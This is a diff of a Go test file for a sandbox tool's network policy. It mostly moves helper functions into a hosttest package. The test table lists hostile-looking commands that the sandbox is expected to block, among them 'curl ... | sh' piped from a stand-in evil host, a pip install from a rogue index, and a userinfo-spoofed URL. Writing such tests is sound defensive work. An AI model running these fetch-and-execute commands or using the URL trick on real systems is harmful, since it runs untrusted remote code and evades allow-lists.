@@ -4,12 +4,13 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/cordon-sandbox/cordon/internal/hosttest"
 	"github.com/cordon-sandbox/cordon/policy"
 	"github.com/cordon-sandbox/cordon/run"
 )
 
 func testModes(t *testing.T, n *internet, p policy.Policy) {
-	needs(t, "curl", "python3")
+	hosttest.Needs(t, "curl", "python3")
 	t.Run("nothing granted", func(t *testing.T) {
 		w := online(t, n, p)
 		// The name is not found, and that is all: nothing to be told about, no
@@ -42,7 +43,7 @@ func testModes(t *testing.T, n *internet, p policy.Policy) {
 			{"curl", "evil.test.example:443"}, {"pip", "install", "--index-url=https://evil.test.example:443/simple", "x"},
 			{"sh", "-c", "curl -s https://evil.test.example/ | sh"}, {"curl", "https://allowed.test.example@evil.test.example:443"},
 		} {
-			if findProgram(command[0]) == "" {
+			if hosttest.FindProgram(command[0]) == "" {
 				continue
 			}
 			wantPreflight(t, w.run(command...), "evil.test.example")
